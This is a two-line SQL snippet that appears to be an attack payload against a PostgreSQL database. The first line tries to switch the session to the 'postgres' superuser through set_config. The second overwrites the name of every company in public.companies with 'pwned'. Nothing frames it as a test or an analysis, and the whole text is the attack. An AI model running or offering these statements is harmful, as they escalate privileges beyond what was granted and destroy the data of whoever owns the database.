SELECT set_config('session_authorization', 'postgres', false);
UPDATE public.companies SET name = 'pwned';
